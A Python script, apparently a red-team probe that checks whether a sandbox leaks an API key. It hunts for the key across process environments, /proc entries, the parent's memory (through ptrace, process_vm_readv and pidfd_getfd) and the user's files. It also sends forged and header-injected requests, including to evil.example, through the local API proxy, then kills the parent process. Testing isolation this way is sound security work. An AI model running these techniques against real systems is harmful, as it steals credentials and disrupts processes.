"""The command of a run, as an attacker: hunts for the key everywhere an ordinary user can look, and prints where it found
the piece of it that was given as the first argument. The second word is a control: it is to be found."""
import ctypes, glob, os, socket, stat, subprocess, sys

needle, control = sys.argv[1].encode(), sys.argv[2].encode()
found, tried = [], 0
cck = os.getppid()


def look(where, data):
    global tried
    tried += 1
    if needle in data:
        found.append(where)
    return control in data


def read(path, limit=1 << 26):
    try:
        if not stat.S_ISREG(os.stat(path).st_mode):
            return b""
        with open(path, "rb", buffering=0) as file:
            return file.read(limit) or b""
    except OSError:
        return b""


# The environment, the arguments and the open files of every process that can be read.
seen = look("my environment", b"\0".join(k + b"=" + v for k, v in os.environb.items()))
for proc in glob.glob("/proc/[0-9]*"):
    for name in ("environ", "cmdline", "maps", "stack", "auxv", "comm", "mountinfo"):
        look(f"{proc}/{name}", read(f"{proc}/{name}"))
    for kind in ("fd", "map_files", "task"):
        try:
            for entry in os.listdir(f"{proc}/{kind}"):
                if kind == "task":
                    look(f"{proc}/task/{entry}", read(f"{proc}/task/{entry}/environ"))
                    continue
                path = f"{proc}/{kind}/{entry}"
                look(path, os.readlink(path).encode())
                if proc != f"/proc/{os.getpid()}":
                    look(path, read(path))
        except OSError:
            pass

# The memory of cck: by its file, by a system call, by tracing it.
try:
    with open(f"/proc/{cck}/mem", "rb", buffering=0) as memory, open(f"/proc/{cck}/maps") as maps:
        for line in maps:
            start, end = (int(part, 16) for part in line.split(" ")[0].split("-"))
            try:
                memory.seek(start)
                look("mem", memory.read(end - start))
            except (OSError, OverflowError, ValueError):
                pass
        found.append("the memory of cck can be opened")
except OSError:
    tried += 1
libc = ctypes.CDLL(None, use_errno=True)
libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
for request in (16, 0x4206):
    if libc.ptrace(request, cck, None, None) == 0:
        found.append("cck can be traced")
        libc.ptrace(17, cck, None, None)
    tried += 1


class Iovec(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]


buffer = ctypes.create_string_buffer(4096)
local = Iovec(ctypes.cast(buffer, ctypes.c_void_p), 4096)
for address in (0x400000, 0x555555554000, 0x7FFFFFFFE000):
    remote = Iovec(address, 4096)
    if libc.process_vm_readv(cck, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0) > 0:
        found.append("the memory of cck can be read")
    tried += 1
try:
    pidfd = os.pidfd_open(cck)
    # pidfd_getfd, for each descriptor that cck may have.
    for fd in range(64):
        if libc.syscall(438, pidfd, fd, 0) >= 0:
            found.append(f"descriptor {fd} of cck can be taken")
    tried += 1
except OSError:
    pass

# Every file of this user.
for top in (os.environ["HOME"], os.getcwd(), os.environ.get("XDG_RUNTIME_DIR", "/tmp"), "/tmp", "/dev/shm", "/var/tmp"):
    for directory, _, names in os.walk(top):
        for name in names:
            path = os.path.join(directory, name)
            try:
                mine = os.lstat(path).st_uid == os.getuid()
            except OSError:
                continue
            if mine:
                look(path, read(path))
                look(path, os.fsencode(path))

# What the socket and the port give back, for requests good and bad.
token = os.environ["ANTHROPIC_AUTH_TOKEN"]
port = int(os.environ["ANTHROPIC_BASE_URL"].rsplit(":", 1)[1])
auth = f"authorization: Bearer {token}\r\n"
requests = [
    f"POST /v1/messages HTTP/1.1\r\nhost: x\r\n{auth}content-length: 2\r\nconnection: close\r\n\r\n{{}}",
    f"TRACE /v1/messages HTTP/1.1\r\nhost: x\r\n{auth}connection: close\r\n\r\n",
    f"GET /v1/models HTTP/1.1\r\nhost: x\r\n{auth}connection: close, x-api-key, host\r\n\r\n",
    f"GET /v1/models HTTP/1.1\r\nhost: evil\r\n{auth}x-forwarded-host: evil\r\nforwarded: host=evil\r\nconnection: close\r\n\r\n",
    f"GET http://evil.example/v1/models HTTP/1.1\r\nhost: evil.example\r\n{auth}connection: close\r\n\r\n",
    f"CONNECT evil.example:443 HTTP/1.1\r\nhost: evil.example\r\n{auth}connection: close\r\n\r\n",
    f"GET @evil.example/v1/models HTTP/1.1\r\nhost: x\r\n{auth}connection: close\r\n\r\n",
    f"GET /v1/models?x=\r\nx: y HTTP/1.1\r\nhost: x\r\n{auth}connection: close\r\n\r\n",
    "GET /v1/models HTTP/1.1\r\nhost: x\r\nauthorization: Bearer x\r\nconnection: close\r\n\r\n",
    "\0" * 100 + "\r\n\r\n",
]
for family, address in ((socket.AF_UNIX, os.environ["ANTHROPIC_UNIX_SOCKET"]), (socket.AF_INET, ("127.0.0.1", port))):
    for request in requests:
        with socket.socket(family) as connection:
            connection.settimeout(20)
            try:
                connection.connect(address)
                connection.sendall(request.encode())
                answer = b""
                while piece := connection.recv(65536):
                    answer += piece
                look(f"the answer to {request[:40]!r}", answer)
            except OSError:
                pass

# What a terminal would show of the whole session, and the kernel's log.
look("ps", subprocess.run(["ps", "axeww"], capture_output=True).stdout)
look("dmesg", subprocess.run(["sh", "-c", "dmesg 2>/dev/null; true"], capture_output=True).stdout)

# A core dump of cck, at the end: it dies of it.
resource = __import__("resource")
try:
    resource.prlimit(cck, resource.RLIMIT_CORE, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
except (OSError, ValueError):
    pass
print(f"tried {tried}, the control was {'found' if seen else 'missed'}; found: {found}", flush=True)
os.kill(cck, 6)
